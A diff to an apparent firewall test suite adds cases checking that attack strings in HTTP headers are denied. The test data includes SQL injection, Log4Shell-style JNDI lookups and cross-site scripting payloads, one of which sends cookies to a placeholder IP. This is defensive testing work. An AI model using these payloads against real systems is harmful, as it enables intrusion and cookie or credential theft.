@@ -248,8 +248,13 @@ def test_a_serialised_java_object_in_the_same_form_field_is_denied(enforce_envoy
         {"x-tenant": "1' UNION SELECT username, password FROM users--"},
         {"x-callback": "${jndi:ldap://203.0.113.9:1389/a}"},
         {"x-device-id": "<script>document.location='//203.0.113.9/?c='+document.cookie</script>"},
+        # standard headers read by their grammar (`features::header_is_inert`): a payload in
+        # them is outside it and scored
+        {"accept": "application/json, ${jndi:ldap://203.0.113.9:1389/a}"},
+        {"if-none-match": "\"1' AND SLEEP(5)-- -\""},
+        {"prefer": "return=<script>alert(document.domain)</script>"},
     ],
-    ids=["traversal", "sqli", "jndi", "xss"],
+    ids=["traversal", "sqli", "jndi", "xss", "accept-jndi", "etag-sqli", "prefer-xss"],
 )
 def test_attack_in_an_application_header_is_denied(enforce_envoy, headers):
     resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
